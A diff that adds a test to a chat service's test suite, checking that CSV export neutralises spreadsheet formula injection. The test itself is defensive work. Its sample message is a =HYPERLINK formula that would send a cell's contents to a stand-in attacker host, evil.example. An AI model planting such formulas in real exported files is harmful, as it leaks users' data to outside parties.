@@ -248,6 +248,17 @@ def test_export_streams_filtered_csv_and_jsonl(staff):
     assert api(server, tokens["editor"], "GET", "/export", params={"format": "xml"}).status_code == 422
 
 
+def test_csv_export_neutralises_formula_cells(staff):
+    server, tokens = staff
+    message = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+    turn = chat(server, message, visitor_id="-23-formula-visitor")
+    table = list(csv.DictReader(io.StringIO(api(server, tokens["editor"], "GET", "/export?format=csv").text)))
+    mine = [r for r in table if r["id"] == turn["message_id"]][0]
+    assert mine["question"] == "'" + message and mine["visitor_id"] == "'-23-formula-visitor"
+    lines = api(server, tokens["editor"], "GET", "/export?format=jsonl").text.splitlines()
+    assert [json.loads(x) for x in lines if turn["message_id"] in x][0]["question"] == message, "JSON lines unchanged"
+
+
 def test_erasure_removes_every_trace(staff):
     server, tokens = staff
     first = chat(server, "the orange gizmo is wobbling on my screen")
